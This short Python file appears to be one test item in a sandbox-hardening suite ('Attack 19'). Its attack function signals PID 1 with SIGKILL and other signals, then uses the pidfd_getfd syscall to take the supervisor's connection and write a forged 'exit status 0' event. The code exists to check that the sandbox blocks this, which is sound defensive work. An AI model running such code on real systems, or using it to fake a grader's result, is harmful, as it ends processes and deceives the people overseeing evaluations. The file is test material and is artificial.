"""Attack 19: forge the exit status of the sandbox.

expect: N
harms E: PROCESSES, it could end process 1 of a container that the grading user owns
"""

import ctypes
import os
import signal
from multiprocessing import Process


def attack():
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP):
        try:
            os.kill(1, number)
        except OSError:
            pass
    library = ctypes.CDLL(None, use_errno=True)
    taken = library.syscall(438, os.pidfd_open(1), 3, 0)  # pidfd_getfd(2)
    if taken >= 0:
        os.write(taken, b'{"event": "exit", "status": 0}')
        print("HOLE: the supervisor's connection was taken")
    print("tried")


def launch(task, name):
    attack()
    child = Process(target=task, args=(name,))
    child.start()
    return child
